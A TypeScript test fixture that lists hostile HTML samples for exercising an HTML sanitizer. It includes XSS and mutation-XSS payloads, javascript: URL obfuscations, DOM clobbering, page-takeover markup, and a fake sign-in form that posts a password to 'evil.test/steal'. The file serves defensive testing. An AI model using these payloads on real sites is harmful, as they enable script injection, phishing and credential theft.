/**
 * Articles as somebody might send them who left out the clipper and the Worker's check. Each tries to call
 * `ran(…)` or to ask `evil.test` for something, by itself or at a click.
 */
export const hostileArticles: Readonly<Record<string, string>> = {
  script: '<p>a</p><script>ran("script")</script><script src="https://evil.test/s.js"></script>',
  'event handlers':
    '<img src=x onerror=ran("onerror")><p onclick=ran("onclick") onmouseover=ran("over") onfocus=ran("f") tabindex=0 autofocus>a</p><details open ontoggle=ran("toggle"><summary>s</summary></details><video><source onerror=ran("source")></video><body onload=ran("body")><marquee onstart=ran("marquee")>m</marquee>',
  svg: '<svg onload=ran("svg")><script>ran("svg script")</script><animate onbegin=ran("begin") attributeName=x dur=1s></animate><a xlink:href="javascript:ran(1)"><text y=20>svg</text></a><use href="https://evil.test/u.svg#a"></use><image href="https://evil.test/i.png"></image><foreignObject><iframe src="javascript:ran(2)"></iframe></foreignObject></svg>',
  'mutation, mathml':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(&quot;mxss1&quot;)&gt;">',
  'mutation, svg style': '<svg></p><style><a id="</style><img src=1 onerror=ran(\'mxss2\')>">',
  'mutation, noscript': '<noscript><p title="</noscript><img src=x onerror=ran(\'mxss3\')>">',
  'mutation, form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran("mxss4")>',
  'mutation, template':
    '<template><img src=x onerror=ran("template")></template><math><annotation-xml encoding="text/html"><style><img src=x onerror=ran("annotation")></style></annotation-xml></math>',
  'mutation, comments':
    '<!--><img src=x onerror=ran("comment")>--><!--!><img src=x onerror=ran("c2")>--><xmp><p title="</xmp><img src=x onerror=ran(\'xmp\')>">',
  'mutation, deep nesting': `${'<div>'.repeat(600)}<table><td><svg><desc><table><td><style><img src=x onerror=ran("deep")></style>`,
  selectedcontent:
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=ran("sel")></option></select>',
  addresses:
    '<a href="javascript:ran(1)">1</a> <a href="java\tscript:ran(2)">2</a> <a href="&#106;avascript&colon;ran(3)">3</a> <a href="\u0001javascript:ran(4)">4</a> <a href="JaVaScRiPt:ran(5)">5</a> <a href="data:text/html,<script>ran(6)</script>">6</a> <a href="vbscript:ran(7)">7</a> <a href="blob:https://x/1">8</a> <a href="//evil.test/p">9</a> <a href="/api/auth/sign-out">10</a> <a href="https://evil.test" ping="https://evil.test/ping" download>11</a>',
  requests:
    '<img src="https://evil.test/i.png"><img srcset="https://evil.test/s.png 2x"><picture><source srcset="https://evil.test/p.png"></picture><video poster="https://evil.test/v.jpg" src="https://evil.test/v.mp4"></video><audio src="https://evil.test/a.mp3" autoplay></audio><iframe src="https://evil.test/f"></iframe><object data="https://evil.test/o"></object><embed src="https://evil.test/e"><link rel=stylesheet href="https://evil.test/l.css"><link rel=preconnect href="https://evil.test"><table background="https://evil.test/t.png"><tr><td>t</td></tr></table><input type=image src="https://evil.test/in.png">',
  style:
    '<style>body{display:none}*{background:url(https://evil.test/b.png)}</style><p style="position:fixed;inset:0;background:url(https://evil.test/p.png)">covers the page</p><p class="cover" hidden>a</p>',
  page: '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/m"><meta http-equiv="Content-Security-Policy" content="default-src *"><title>Sign in again</title><html lang=xx><body class=x>',
  form: '<form id=stay action="https://evil.test/steal"><input name=password value=x><button formaction="https://evil.test/b">Sign in</button></form><dialog open>Sign in</dialog><button popovertarget=main>p</button>',
  clobbering:
    '<a id=root>r</a><a id=main>m</a><img name=body><form name=document id=location><input name=querySelector></form><a id=a-ok>kept</a><p id=__proto__>x</p><a name=fetch href="https://evil.test">n</a>',
  pictures:
    '<img alt="A slip" data-original="javascript:ran(1)"><img alt="B" data-original="https://evil.test/b.png">',
  elements:
    '<x-evil onclick=ran(1)>x</x-evil><p is="x-evil">y</p><slot name=z>z</slot><portal src="https://evil.test/p"></portal>',
};
